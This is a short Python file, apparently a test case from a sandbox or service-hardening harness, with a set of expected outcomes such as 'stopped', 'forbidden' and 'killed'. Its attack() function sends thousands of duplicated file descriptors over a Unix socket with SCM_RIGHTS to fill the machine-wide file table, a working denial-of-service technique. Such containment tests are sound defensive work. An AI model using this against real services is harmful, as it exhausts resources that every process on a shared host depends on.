"""Sends descriptors over its line to the service, which would have to close each of them.

Descriptors under way fill a table that the whole machine shares.
"""

import array
import os
import socket

EXPECT = {"stopped", "forbidden", "rendered", "killed"}
BARE = {"stopped", "forbidden", "rendered", "killed"}  # the service reads bytes only, whatever the tier


def attack(target):
    wire = socket.socket(fileno=os.dup(target.wire()))
    many = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 250)
    for _ in range(50):
        wire.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
    os._exit(0)
